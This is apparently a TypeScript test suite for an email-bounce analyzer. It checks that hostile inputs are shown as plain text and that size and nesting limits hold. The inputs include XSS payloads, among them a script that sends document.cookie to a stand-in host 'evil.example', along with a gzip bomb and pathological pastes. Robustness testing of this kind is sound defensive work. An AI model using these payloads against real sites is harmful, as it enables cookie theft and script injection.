// Hostile bounces and pastes through the real engine (and, for those with a diagnosis, through
// the real share link). Small hostile files are committed here (see README.md); the very big
// inputs are generated at test time. Each must come back within a generous hang guard, with no
// exception and no internal error, with hostile markup kept as plain text, the bounce still
// diagnosed where there is one, and a clear problem where a limit applies.
import { readdirSync, readFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { buildLink } from '../../src/app/features/share/build';
import { decodeShare } from '../../src/app/features/share/codec';
import { analyze } from '../../src/core/analyze';
import type { Analysis, ProblemCode, Report } from '../../src/core/types';

const DIR = 'tests/hostile';
/** Every input here is answered in well under a second; this only turns a hang into a failure. */
const HANG_GUARD_MS = 10_000;
const MB = 1024 * 1024;
const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;

const timings: string[] = [];

async function analyzeGuarded(name: string, input: string | Uint8Array): Promise<Analysis> {
  const started = performance.now();
  let timer: ReturnType<typeof setTimeout> | undefined;
  const hang = new Promise<never>((_, reject) => {
    timer = setTimeout(
      () => reject(new Error(`hang guard: ${name} not answered in ${HANG_GUARD_MS} ms`)),
      HANG_GUARD_MS,
    );
  });
  const analysis = await Promise.race([analyze(input), hang]).finally(() => clearTimeout(timer));
  const ms = performance.now() - started;
  timings.push(`${name}: ${ms.toFixed(0)} ms`);
  // The engine's work is synchronous between awaits; the elapsed time catches what the timer cannot.
  expect(ms).toBeLessThan(HANG_GUARD_MS);
  // Plain data (what the worker posts to the page), and no exception caught inside the engine.
  expect(structuredClone(analysis)).toStrictEqual(analysis);
  const problems = problemCodes(analysis);
  expect(problems).not.toContain('internal-error');
  for (const report of analysis.reports) {
    if (typeof input !== 'string') expect(LONE_SURROGATE.test(report.displayText)).toBe(false);
    for (const r of report.results)
      for (const s of r.spans) {
        expect(s.start).toBeGreaterThanOrEqual(0);
        expect(s.end).toBeLessThanOrEqual(report.displayText.length);
      }
  }
  return analysis;
}

const problemCodes = (a: Analysis): ProblemCode[] => [
  ...a.problems.map((p) => p.code),
  ...a.reports.flatMap((r) => r.problems.map((p) => p.code)),
];

/** Values the page shows as facts (not as quoted evidence) carry no markup and no spaces. */
function expectCleanFields(report: Report): void {
  const clean = /^[^<>"'\s]+$/;
  for (const r of report.results) {
    for (const value of [
      r.recipient,
      r.originalRecipient,
      r.remoteServer?.host,
      r.remoteServer?.ip,
      r.reportingServer?.host,
      r.reportingServer?.ip,
    ])
      if (value != null) expect(value).toMatch(clean);
    if (r.status) expect(r.status).toMatch(/^[245]\.\d{1,3}\.\d{1,3}$/);
    if (r.replyCode) expect(r.replyCode).toMatch(/^[245]\d\d$/);
  }
}

/** The diagnosis survives a share link, its text unchanged (markup included, as text). */
async function expectShareable(report: Report): Promise<void> {
  const base = 'https://bouncelens.example/';
  const options = { includeAddresses: true, includeOriginal: true };
  const link = await buildLink(report, options, base);
  const shared = await decodeShare(link.url.slice(base.length));
  if (!link.shortened) expect(shared.text).toBe(report.displayText);
  expect(shared.results.map((r) => [r.recipient, r.status, r.reason])).toEqual(
    report.results.map((r) => [r.recipient, r.status, r.reason]),
  );
}

// ---------------------------------------------------------------------------------------------
// The committed files. For each: the diagnosis it holds, and hostile text that sits in a part
// the page shows as it is (a text/plain part, the delivery report), which must be kept verbatim.

interface HostileFile {
  recipient: string;
  status: string;
  reason: string;
  /** Markup that must reach displayText as the very same characters: text, not HTML. */
  verbatim: string[];
}

const FILES: Record<string, HostileFile> = {
  'script-tags.eml': {
    recipient: 'victim@example.net',
    status: '5.1.1',
    reason: 'userunknown',
    verbatim: [
      "<script>fetch('https://evil.example/?c=' + document.cookie)</script>",
      'User unknown <script>alert(1)</script>',
      "Subject: </title><script>alert('returned subject')</script>",
    ],
  },
  'event-handlers.eml': {
    recipient: 'full@example.net',
    status: '5.2.2',
    reason: 'mailboxfull',
    verbatim: [
      '<img src=x onerror=alert(1)>',
      '<body onload=alert(2)><div onmouseover="alert(3)">hover</div>',
      '<a href="#" onclick="alert(4)">details</a> <input autofocus onfocus=alert(5)>',
      'Remote-MTA: dns; mx2.example.net <img src=x onerror=alert(7)>',
    ],
  },
  'javascript-urls.txt': {
    recipient: 'blocked@example.net',
    status: '5.7.1',
    reason: 'norelaying',
    verbatim: [
      'See javascript:alert(document.domain) for details',
      '<a href="javascript:alert(1)">click here</a>, or [help](javascript:alert(2))',
      '<a href="&#106;avascript:alert(4)">that</a>',
      'data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg== or vbscript:msgbox(6)',
      'Relay access denied javascript:alert(7)',
    ],
  },
  'script-paste.txt': {
    recipient: 'nobody@example.net',
    status: '5.1.1',
    reason: 'userunknown',
    verbatim: [
      "<script>alert('pasted')</script>",
      '<iframe src="javascript:alert(1)"></iframe><object data="javascript:alert(2)"></object>',
      '<style>body{background:url("javascript:alert(4)")}</style>',
    ],
  },
  'svg-script.eml': {
    recipient: 'ghost@example.net',
    status: '5.1.1',
    reason: 'userunknown',
    verbatim: ['<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'],
  },
  'html-only.eml': {
    recipient: 'absent@example.net',
    status: '5.1.1',
    reason: 'userunknown',
    verbatim: [],
  },
  'invalid-utf8.eml': {
    recipient: 'lost@example.net',
    status: '5.1.1',
    reason: 'userunknown',
    verbatim: [],
  },
};

const committed = readdirSync(DIR).filter((f) => /\.(eml|txt)$/.test(f));

describe('the hostile corpus', () => {
  it('every file is described in the README and checked here', () => {
    const readme = readFileSync(`${DIR}/README.md`, 'utf8');
    expect(committed.sort()).toEqual(Object.keys(FILES).sort());
    for (const file of committed) expect(readme).toContain(`\`${file}\``);
  });

  describe.each(Object.entries(FILES))('%s', (file, expected) => {
    const bytes = new Uint8Array(readFileSync(`${DIR}/${file}`));

    it.each([
      ['opened as a file', bytes],
      ['pasted as text', new TextDecoder().decode(bytes)],
    ] as const)('%s: diagnosed, markup kept as text, fields clean, shareable', async (how, input) => {
      const analysis = await analyzeGuarded(`${file} ${how}`, input);
      expect(analysis.reports).toHaveLength(1);
      const [report] = analysis.reports;
      expect(report.results.map((r) => [r.recipient, r.status, r.reason])).toEqual([
        [expected.recipient, expected.status, expected.reason],
      ]);
      for (const snippet of expected.verbatim) expect(report.displayText).toContain(snippet);
      expectCleanFields(report);
      await expectShareable(report);
    });
  });

  it('invalid UTF-8 in every part: readable text with replacement characters, no broken characters', async () => {
    const analysis = await analyzeGuarded(
      'invalid-utf8.eml',
      new Uint8Array(readFileSync(`${DIR}/invalid-utf8.eml`)),
    );
    const [report] = analysis.reports;
    // Each part with bad bytes is shown, undecodable bytes replaced or read as Windows-1252.
    for (const part of ['could not be delivered', 'Base64 part:', 'Quoted-printable part:', 'X-Junk:'])
      expect(report.displayText).toContain(part);
    expect(report.displayText).toMatch(/\uFFFD/);
    expect(report.message.subject).toMatch(/^Undelivered Mail .+ Returned$/);
  });
});

// ---------------------------------------------------------------------------------------------
// Generated at test time: too big to commit.

const HEAD = `From: Mail Delivery System <MAILER-DAEMON@mx.example.org>
To: sender@example.org
Subject: Undelivered Mail Returned to Sender
MIME-Version: 1.0
`;
const DSN_PART = `Content-Type: message/delivery-status

Reporting-MTA: dns; mx.example.org

Final-Recipient: rfc822; deep@example.net
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx1.example.net
Diagnostic-Code: smtp; 550 5.1.1 <deep@example.net>: User unknown
`;
const SCRIPT_TAGS = readFileSync(`${DIR}/script-tags.eml`, 'latin1');

const report = (parts: string[], boundary = 'r') =>
  `${HEAD}Content-Type: multipart/report; report-type=delivery-status; boundary="${boundary}"\n\n${parts
    .map((p) => `--${boundary}\n${p}\n`)
    .join('')}--${boundary}--\n`;

/** Base64 lines of 76 characters, `size` bytes of them. */
const base64Lines = (size: number, unit = 'QUFB') => `${unit.repeat(19)}\n`.repeat(Math.ceil(size / 77));

function nestedMultiparts(depth: number): string {
  let inner = DSN_PART;
  for (let i = depth; i > 0; i--)
    inner = `Content-Type: multipart/mixed; boundary="n${i}"\n\n--n${i}\n${inner}\n--n${i}--\n`;
  return HEAD + inner;
}

function nestedMessages(depth: number): string {
  let inner = report([DSN_PART]);
  for (let i = depth; i > 0; i--)
    inner = `From: helpdesk${i}@example.org\nSubject: Fwd: Undelivered Mail Returned to Sender\nMIME-Version: 1.0\nContent-Type: message/rfc822\n\n${inner}`;
  return inner;
}

const readsDeep = (a: Analysis) => a.reports.flatMap((r) => r.results).map((r) => [r.recipient, r.status]);

describe('huge header fields', () => {
  it.each([
    ['one 5 MB line', `X-Huge: ${'A'.repeat(5 * MB)}`],
    [
      '5 MB folded over 125,000 lines',
      `X-Huge:${' word word word word word word word word\n'.repeat(125_000)} end`,
    ],
    ['a 5 MB subject of encoded words', `X-Subject: ${'=?utf-8?B?PHNjcmlwdD4=?= '.repeat(200_000)}`],
  ])('%s: read up to the limit, said so, the bounce still diagnosed', async (name, field) => {
    const input = SCRIPT_TAGS.replace('Date:', `${field}\nDate:`);
    expect(input.length).toBeGreaterThan(4.5 * MB);
    const analysis = await analyzeGuarded(`header field: ${name}`, input);
    expect(problemCodes(analysis)).toContain('headers-truncated');
    expect(analysis.reports[0].results.map((r) => [r.recipient, r.status])).toEqual([
      ['victim@example.net', '5.1.1'],
    ]);
  });
});

describe('deep MIME nesting', () => {
  it('multiparts nested 5,000 deep: the nesting limit is reported', async () => {
    const analysis = await analyzeGuarded('multiparts nested 5,000 deep', nestedMultiparts(5000));
    expect(problemCodes(analysis)).toContain('nesting-limit');
  });

  it('multiparts nested a few levels: the report inside is found', async () => {
    const analysis = await analyzeGuarded('multiparts nested 8 deep', nestedMultiparts(8));
    expect(readsDeep(analysis)).toEqual([['deep@example.net', '5.1.1']]);
  });

  it('a bounce forwarded as an attachment inside an attachment: found', async () => {
    const analysis = await analyzeGuarded('messages nested 2 deep', nestedMessages(2));
    expect(readsDeep(analysis)).toEqual([['deep@example.net', '5.1.1']]);
  });

  it('messages attached inside messages 3,000 deep: answered quickly, without a diagnosis', async () => {
    const analysis = await analyzeGuarded('messages nested 3,000 deep', nestedMessages(3000));
    expect(readsDeep(analysis)).toEqual([]);
    expect(problemCodes(analysis).length).toBeGreaterThan(0);
  });

  // Bug: the forwarded-message depth limit (3) is silent: the answer says no results, not why.
  it('messages attached inside messages 3,000 deep: the nesting limit is reported', async () => {
    const analysis = await analyzeGuarded('messages nested 3,000 deep', nestedMessages(3000));
    expect(problemCodes(analysis)).toContain('nesting-limit');
  });
});

describe('thousands of parts', () => {
  const filler = Array.from(
    { length: 5000 },
    (_, i) => `Content-Type: text/plain\n\nPart ${i} of a message.\n`,
  );

  it('5,000 parts after the report: the limit is reported and the bounce diagnosed', async () => {
    const analysis = await analyzeGuarded('5,000 parts, report first', report([DSN_PART, ...filler]));
    expect(problemCodes(analysis)).toContain('parts-limit');
    expect(readsDeep(analysis)).toEqual([['deep@example.net', '5.1.1']]);
  });

  it('5,000 parts before the report: the limit is reported', async () => {
    const analysis = await analyzeGuarded('5,000 parts, report last', report([...filler, DSN_PART]));
    expect(problemCodes(analysis)).toContain('parts-limit');
  });
});

describe('base64 that expands enormously if decoded naively', () => {
  it('40 MB of base64 in an attachment of the returned message: skipped, the bounce diagnosed', async () => {
    const original = `Content-Type: message/rfc822

From: sender@example.org
Subject: The big file
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="z"

--z
Content-Type: application/octet-stream
Content-Transfer-Encoding: base64

${base64Lines(40 * MB, 'AAAA')}--z--`;
    const input = report([DSN_PART, original]);
    expect(input.length).toBeGreaterThan(40 * MB);
    const analysis = await analyzeGuarded('40 MB base64 in the returned message', input);
    expect(readsDeep(analysis)).toEqual([['deep@example.net', '5.1.1']]);
    expect(analysis.reports[0].original?.subject).toBe('The big file');
    expect(analysis.reports[0].displayText.length).toBeLessThan(MB);
  });

  it('40 MB of base64 in the readable text part: cut, said so, the bounce diagnosed', async () => {
    const text = `Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n${base64Lines(40 * MB)}`;
    const analysis = await analyzeGuarded('40 MB base64 text part', report([text, DSN_PART]));
    expect(problemCodes(analysis)).toContain('text-truncated');
    expect(readsDeep(analysis)).toEqual([['deep@example.net', '5.1.1']]);
    expect(analysis.reports[0].displayText.length).toBeLessThan(2 * MB);
  });

  it('40 MB of base64 as the delivery report itself: cut and said so', async () => {
    const dsn = `Content-Type: message/delivery-status\nContent-Transfer-Encoding: base64\n\n${base64Lines(40 * MB)}`;
    const analysis = await analyzeGuarded('40 MB base64 delivery report', report([dsn]));
    expect(problemCodes(analysis)).toContain('text-truncated');
  });

  it('a gzip bomb (300 MB unpacked) attached as base64: ignored, the bounce diagnosed', async () => {
    // gzip members concatenate: 300 copies of 1 MB of zeros, packed, make one 300 MB file.
    const member = gzipSync(Buffer.alloc(MB), { level: 9 });
    const bomb = Buffer.concat(Array.from({ length: 300 }, () => member));
    const attachment = `Content-Type: application/gzip; name="report.gz"\nContent-Disposition: attachment; filename="report.gz"\nContent-Transfer-Encoding: base64\n\n${bomb.toString('base64').replace(/.{76}/g, '$&\n')}`;
    const analysis = await analyzeGuarded('gzip bomb as base64', report([DSN_PART, attachment]));
    expect(readsDeep(analysis)).toEqual([['deep@example.net', '5.1.1']]);
  });

  it('60 MB of base64: too large, said so', async () => {
    const analysis = await analyzeGuarded('60 MB input', report([DSN_PART, base64Lines(60 * MB)]));
    expect(problemCodes(analysis)).toEqual(['too-large']);
    expect(analysis.reports).toEqual([]);
  });
});

describe('a 3 MB pathological paste', () => {
  const size = 3 * MB;
  const fill = (unit: string) => unit.repeat(Math.ceil(size / unit.length)).slice(0, size);

  it.each([
    ['spaces', fill(' ')],
    ['"<"', fill('<')],
    ['"5."', fill('5.')],
    ['spaces, "<" and "5." in turn', fill(' <5.')],
    ['runs of each', `${fill(' ').slice(0, MB)}${fill('<').slice(0, MB)}${fill('5.').slice(0, MB)}`],
    ['lines of codes that never complete', fill('     <<<<<5.5.5.5.5.550 550-5.\n')],
    ['"@" runs', fill('a@')],
    ['half addresses', fill('<a@b.c ')],
    ['status fields', fill('Status: 5.')],
    ['reply codes', fill('550 ')],
  ])('%s: answered, no bounce found, said so', async (name, paste) => {
    expect(paste.length).toBe(size);
    const analysis = await analyzeGuarded(`3 MB paste: ${name}`, paste);
    expect(readsDeep(analysis)).toEqual([]);
    expect(problemCodes(analysis).length).toBeGreaterThan(0);
  });

  it('an error line after 3 MB of spaces and "<" is still found', async () => {
    const paste = `${fill(' ').slice(0, 1.5 * MB)}${fill('<').slice(0, 1.5 * MB)}\n550 5.1.1 <lost@example.net>: User unknown`;
    const analysis = await analyzeGuarded('3 MB paste with an error line at the end', paste);
    expect(readsDeep(analysis)).toEqual([['lost@example.net', '5.1.1']]);
  });

  it('prints how long each hostile input took', () => {
    console.info(`hostile inputs, time to answer:\n  ${timings.join('\n  ')}`);
    expect(timings.length).toBeGreaterThan(30);
  });
});
